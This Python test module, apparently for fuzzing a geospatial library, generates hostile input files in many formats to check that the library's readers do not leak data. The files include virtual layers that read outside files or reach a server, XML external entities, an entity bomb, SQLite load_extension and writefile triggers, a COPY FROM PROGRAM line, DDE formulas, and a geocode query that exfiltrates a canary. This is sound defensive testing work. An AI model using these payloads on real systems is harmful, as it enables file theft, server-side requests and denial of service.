"""Contents that lead out of themselves, in every format that a geographical library may recognise."""
# ruff: noqa: E501 - contents stand as they would be received

from __future__ import annotations

import gzip
import io
import json
import sqlite3
import tempfile
import zipfile
from contextlib import closing
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

from tools.fuzz.seeds import as_ods, as_xlsx, as_zip, frames, layer_bytes

CANARY = "CANARI-DEHORS-7Q"
"""A text of a file outside, which nothing may show."""


@dataclass(frozen=True)
class World:
    """Where a content that leads out would lead: a server, files outside, a pipe, a folder to write in."""

    port: int
    outside: Path
    cage: Path

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def pipe(self) -> Path:
        return self.outside / "tube"


def outside_files() -> dict[str, bytes]:
    """Return the files outside, each with the canary where a reader would show it."""
    feature = {
        "type": "Feature",
        "properties": {"nom": CANARY, "type": "CS", "code_insee": "03185", "code": "03185"},
        "geometry": {"type": "Point", "coordinates": [2.6, 46.34]},
    }
    table = f"nom;type;code_insee;code_qp\n{CANARY};CS;03185;{CANARY}\n".encode()
    return {
        "canari.geojson": json.dumps({"type": "FeatureCollection", "features": [feature]}).encode(),
        "canari.csv": table,
        "canari.dbf": _shapefile()["x.dbf"].replace(b"Domerat", CANARY[:7].encode()),
    }


@cache
def _shapefile() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(layer_bytes(frames()["communes"], "x.zip"))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _vrt(inner: str) -> bytes:
    return f'<OGRVRTDataSource><OGRVRTLayer name="communes">{inner}</OGRVRTLayer></OGRVRTDataSource>'.encode()


def _sql(world: World, sql: str) -> bytes:
    source = f"<SrcDataSource>{world.outside}/canari.geojson</SrcDataSource>"
    return _vrt(f'{source}<SrcSQL dialect="SQLITE">{sql}</SrcSQL>')


def _vrts(world: World) -> dict[str, bytes]:
    """Return virtual layers: another file, a server, SQL that asks, writes or never ends, a pipe."""
    geocode = "SELECT ogr_geocode(nom,'raw','QUERY_TEMPLATE={}/vol?q=%s'{}) AS nom, geometry FROM canari"
    endless = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT count(*) AS nom FROM r"
    outside = f"{world.outside}/canari.geojson"
    layer = f"<SrcDataSource>{outside}</SrcDataSource><SrcLayer>canari</SrcLayer>"
    return {
        "vrt_fichier": _vrt(layer),
        "vrt_relatif": _vrt('<SrcDataSource relativeToVRT="1">../dehors/canari.geojson</SrcDataSource>'),
        "vrt_csv": _vrt(f"<SrcDataSource>{world.outside}/canari.csv</SrcDataSource><SrcLayer>canari</SrcLayer>"),
        "vrt_http": _vrt(f"<SrcDataSource>/vsicurl/{world.url}/x.geojson</SrcDataSource>"),
        "vrt_zip_http": _vrt(f"<SrcDataSource>/vsizip//vsicurl/{world.url}/x.zip</SrcDataSource>"),
        "vrt_exfiltration": _sql(world, geocode.format(world.url, "")),
        "vrt_ecrit": _sql(world, geocode.format(world.url, f",'CACHE_FILE={world.cage}/ecrit.sqlite'")),
        "vrt_extension": _sql(world, f"SELECT load_extension('{world.cage}/x.so') AS nom FROM canari"),
        "vrt_sans_fin": _sql(world, endless),
        "vrt_tube": _vrt(f"<SrcDataSource>{world.pipe}</SrcDataSource>"),
        "vrt_union": f'<OGRVRTDataSource><OGRVRTUnionLayer name="u"><OGRVRTLayer name="canari">{layer}'
        "</OGRVRTLayer></OGRVRTUnionLayer></OGRVRTDataSource>".encode(),
        "vrt_espaces": b"\n \t<!-- x -->" + _vrt(layer),
        "vrt_bom": b"\xef\xbb\xbf" + _vrt(layer),
        "vrt_raster": f'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand><SimpleSource><SourceFilename>'
        f"/vsicurl/{world.url}/x.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>".encode(),
        # GeoJSON by its first words, a virtual layer by the rest, and the contrary.
        "vrt_double": b'{"type":"FeatureCollection","features":[]}' + _vrt(layer),
        "vrt_cite_geojson": _vrt(f'{layer}<!-- {{"type":"FeatureCollection","features":[]}} -->'),
    }  # fmt: skip


def _xml(world: World) -> dict[str, bytes]:
    """Return XML formats, each naming the server or the files outside."""
    url, outside = world.url, world.outside
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{outside}/canari.csv"><!ENTITY h SYSTEM "{url}/e">]>'
    texts = {
        "wfs": f"<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
        "csw": f"<OGRCSWDataSource><URL>{url}/csw</URL></OGRCSWDataSource>",
        "wms": f'<GDAL_WMS><Service name="WMS"><ServerUrl>{url}/wms?</ServerUrl></Service></GDAL_WMS>',
        "wcs": f"<WCS_GDAL><ServiceURL>{url}/wcs</ServiceURL></WCS_GDAL>",
        "gml": '<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {url}/x.xsd">'
        f'<gml:featureMember xlink:href="{url}/m"><x fid="a"><nom>a</nom></x></gml:featureMember></gml:FeatureCollection>',
        "gml_entite": f'{entity}<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml"><gml:featureMember>'
        "<x><nom>&e;&h;</nom></x></gml:featureMember></gml:FeatureCollection>",
        "kml": f'<kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>{url}/k.kml</href></Link>'
        "</NetworkLink></kml>",
        "gpx": f'<gpx version="1.1"><metadata><link href="{url}/g"/></metadata><wpt lat="46" lon="2"/></gpx>',
        "georss": f'<rss version="2.0" xmlns:georss="http://www.georss.org/georss"><channel><link>{url}</link>'
        "<item><georss:point>46 2</georss:point></item></channel></rss>",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:cm="http://cloudmade.com/"><image href="{url}/i"/></svg>',
        "osm": '<osm version="0.6"><node id="1" lat="46" lon="2"/></osm>',
        "lvbag": '<sl-bag-extract:bagStand xmlns:sl-bag-extract="http://www.kadaster.nl/schemas/lvbag/extract-'
        f'deelbestand-lvc/v20200601" xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{url}/b"/>',
        "nas": f"<AX_Bestandsdatenauszug><NAS-Operationen.xsd href='{url}/x.xsd'/></AX_Bestandsdatenauszug>",
        "jml": "<JCSDataFile><JCSGMLInputTemplate/></JCSDataFile>",
        "mapml": f'<mapml- ><map-link href="{url}/m"/></mapml->',
        "gmlas": f'<ogr_gmlas:Configuration xmlns:ogr_gmlas="http://gdal.org/ogr/gmlas"><SchemaCache><Directory>'
        f"{world.cage}</Directory></SchemaCache></ogr_gmlas:Configuration>",
        "milliard": '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {c} "{f"&{chr(ord(c) - 1)};" * 10}">' for c in "bcdefghij")
        + "]><kml><Document><name>&j;</name></Document></kml>",
    }  # fmt: skip
    return {name: text.encode() for name, text in texts.items()}


def _json(world: World) -> dict[str, bytes]:
    """Return JSON formats with links to the server."""
    url = world.url
    feature = {
        "type": "Feature", "properties": {"nom": "a"}, "geometry": {"type": "Point", "coordinates": [2, 46]},
    }  # fmt: skip
    collection = {"type": "FeatureCollection", "features": [feature]}
    link = {"type": "link", "properties": {"href": f"{url}/crs", "type": "proj4"}}
    items = {
        "geojson_crs": {**collection, "crs": link},
        "geojson_suite": {**collection, "links": [{"rel": "next", "href": f"{url}/suite"}]},
        "jsonfg": {**collection, "conformsTo": ["[ogc-json-fg-1-0.1:core]"], "coordRefSys": f"{url}/crs"},
        "topojson": {"type": "Topology", "arcs": [], "objects": {"a": {"type": "Point", "coordinates": [2, 46]}}},
        "esrijson": {"geometryType": "esriGeometryPoint", "features": [{"attributes": {"nom": "a"}}],
                     "exceededTransferLimit": True, "spatialReference": {"wkid": 4326}},
        "stac": {**collection, "features": [{**feature, "stac_version": "1.0.0", "id": "a", "links": [],
                 "assets": {"a": {"href": f"/vsicurl/{url}/a.tif"}}}], "links": [{"rel": "next", "href": url}]},
        "oapif": {"links": [{"rel": "data", "href": f"{url}/collections"}], "conformsTo": [url], "collections": []},
        "tilejson": {"tilejson": "2.2.0", "tiles": [f"{url}/{{z}}/{{x}}/{{y}}.pbf"]},
        "planet": {"type": "PLScenes", "_links": {"_next": url}, **collection},
    }  # fmt: skip
    return {name: json.dumps(item).encode() for name, item in items.items()}


def _texts(world: World) -> dict[str, bytes]:
    """Return texts and magic numbers of other drivers."""
    outside = world.outside
    return {
        "mif": b'Version 300\nCharset "WindowsLatin1"\nDelimiter ","\nColumns 1\n nom Char(10)\nData\nPoint 2 46\n',
        "tab": f'!table\n!version 300\nDefinition Table\n File "{outside}/canari.csv" Type NATIVE\n'.encode(),
        "csv": b"WKT;nom;type;code_insee\nPOINT (2 46);A;CS;03185\n",
        "pgdump": b"--\n-- PostgreSQL database dump\n--\nSET standard_conforming_strings = ON;\nCOPY t FROM PROGRAM 'id';\n",
        "dxf": b"  0\nSECTION\n  2\nHEADER\n  0\nENDSEC\n  0\nEOF\n",
        "vdv": b"mod; DD.MM.YYYY; HH:MM:SS; free\nsrc; \"x\"\ntbl; A\natr; N\nfrm; char[4]\nrec; \"a\"\nend; 1\neof; 1\n",
        "gmt": b"# @VGMT1.0 @GPOINT\n# @Nnom\n# FEATURE_DATA\n2 46\n",
        "pdf": b"%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(" + world.url.encode() + b")>>>>endobj\n",
        "netcdf": b"CDF\x01" + bytes(60),
        "hdf5": b"\x89HDF\r\n\x1a\n" + bytes(64),
        "flatgeobuf": b"fgb\x03fgb\x00" + b"\xff\xff\xff\x7f" + bytes(64),
        "arrow": b"ARROW1\0\0" + bytes(64),
        "geotiff": b"II*\x00\x08\x00\x00\x00" + bytes(32),
        "osm_pbf": b"\x00\x00\x00\x0d\x0a\x09OSMHeader" + bytes(40),
        "mysql": f"MYSQL:x,host=127.0.0.1,port={world.port}".encode(),
        "postgres": f"PG:host=127.0.0.1 port={world.port} dbname=x".encode(),
        "adresse": f"{world.url}/x.geojson".encode(),
        "chemin": f"{outside}/canari.geojson".encode(),
        "bna": b'"a","b",1\n2,46\n',
        "s57": b"00065 3LE1 0900201 ! 3404" + bytes(64),
        "interlis": b"SCNT\nx\n////\nMTID x\nMODL x\nENDE\n",
        "gzip": gzip.compress(_vrts(world)["vrt_fichier"], mtime=0),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "shx_seul": _shapefile()["x.shx"],
        "dbf_seul": _shapefile()["x.dbf"],
    }  # fmt: skip


def _databases(world: World) -> dict[str, bytes]:
    """Return SQLite files whose schema is code: virtual tables, views, triggers, computed columns."""
    outside = world.outside
    endless = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r)"
    virtual = "CREATE VIRTUAL TABLE v USING {}"
    scripts = {
        "virtual_ogr": virtual.format(f"VirtualOGR('{outside}/canari.geojson')"),
        "virtual_texte": virtual.format(f"VirtualText('{outside}/canari.csv', UTF-8, 1, POINT, NONE, ';')"),
        "virtual_forme": virtual.format(f"VirtualShape('{outside}/canari', UTF-8, 4326)"),
        "virtual_dbf": virtual.format(f"VirtualDbf('{outside}/canari.dbf', UTF-8)"),
        "vue_sans_ligne": f"CREATE VIEW v AS {endless} SELECT n AS nom FROM r WHERE n<0",
        "vue_reseau": f"CREATE VIEW v AS SELECT ogr_geocode('a','raw','QUERY_TEMPLATE={world.url}/q=%s') AS nom",
        "declencheur": f"CREATE TRIGGER d AFTER INSERT ON x BEGIN SELECT writefile('{world.cage}/x','x'); END",
        "colonne": "CREATE TABLE v (fid INTEGER PRIMARY KEY)",
    }
    registered = "INSERT OR IGNORE INTO gpkg_contents (table_name,data_type,identifier,srs_id) VALUES ('v','{}','v',4326)"
    with tempfile.TemporaryDirectory() as folder:
        made = {}
        frame = frames()["communes"]
        base = layer_bytes(frame, "x.gpkg")
        for name, script in scripts.items():
            for kind in ("features", "attributes"):
                path = Path(folder) / "x.gpkg"
                path.write_bytes(base)
                with closing(sqlite3.connect(path)) as database:
                    if "VIRTUAL TABLE" in script:  # of a module that this SQLite has not
                        database.execute("PRAGMA writable_schema=ON")
                        row = ("table", "v", "v", 0, script)
                        database.execute("INSERT INTO sqlite_master VALUES (?,?,?,?,?)", row)
                    else:
                        database.execute(script)
                    if name == "colonne":
                        database.execute("INSERT INTO v (fid) VALUES (1)")
                        column = "nom TEXT AS (hex(zeroblob(450000000))) VIRTUAL"
                        database.execute(f"ALTER TABLE v ADD COLUMN {column}")
                    database.execute(registered.format(kind))
                    if kind == "features":
                        database.execute(
                            "INSERT INTO gpkg_geometry_columns VALUES ('v','nom','GEOMETRY',4326,0,0)"
                        )
                    database.commit()
                made[f"gpkg_{name}_{kind}"] = path.read_bytes()
    return made


def _workbooks(world: World) -> dict[str, bytes]:
    """Return workbooks and a lying Parquet that name files and servers."""
    rows = [["nom", "type", "code_insee"], ["A", "CS", "03185"]]

    def changed(content: bytes, more: dict[str, bytes], old: bytes = b"", new: bytes = b"") -> bytes:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            found = {name: archive.read(name).replace(old or b"\0\0", new) for name in archive.namelist()}
        return as_zip(found | more)

    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{world.url}/x.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    target = f"file://{world.outside}/canari.csv".encode()
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{world.outside}/canari.csv">]>'.encode()
    dde = f"of:=DDE(&quot;soffice&quot;;&quot;{world.outside}/canari.csv&quot;;&quot;A1&quot;)".encode()
    cell = b'<table:table-cell office:value-type="string"><text:p>A<'
    lying = io.BytesIO()
    geo = {"version": "1.0.0", "primary_column": "geometry", "columns": {"geometry": {
        "encoding": "WKB", "geometry_types": [], "crs": {"$schema": f"{world.url}/projjson", "type": "x"}}}}  # fmt: skip
    table = pa.Table.from_pandas(pd.DataFrame({"nom": ["A"], "code": ["03185"], "geometry": [b"\x01\x01"]}))
    pq.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo).encode()}), lying)
    return {
        "xlsx_lien": changed(as_xlsx(rows), {"xl/externalLinks/_rels/externalLink1.xml.rels": link,
                                             "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "xlsx_cible": changed(as_xlsx(rows), {}, b"worksheets/sheet1.xml", target),
        "xlsx_entite": changed(as_xlsx(rows), {}, b"<sst ", entity + b"<sst "),
        "ods_lien": changed(as_ods(rows), {}, cell, b'<table:table-cell office:value-type="string"><text:p><text:a '
                            b'xlink:href="' + target + b'" xmlns:xlink="http://www.w3.org/1999/xlink">A</text:a><'),
        "ods_dde": changed(as_ods(rows), {}, cell, b'<table:table-cell table:formula="' + dde + b'"><text:p>A<'),
        "ods_entite": changed(as_ods(rows), {}, b"<office:document-content", entity + b"<office:document-content"),
        "parquet_crs": lying.getvalue(),
    }  # fmt: skip


def contents(world: World) -> dict[str, bytes]:
    """Return every hostile content by name; the same names whatever the world."""
    return _vrts(world) | _xml(world) | _json(world) | _texts(world) | _databases(world) | _workbooks(world)


def shapefile() -> dict[str, bytes]:
    """Return the members of a sound shapefile, under the name x."""
    return dict(_shapefile())
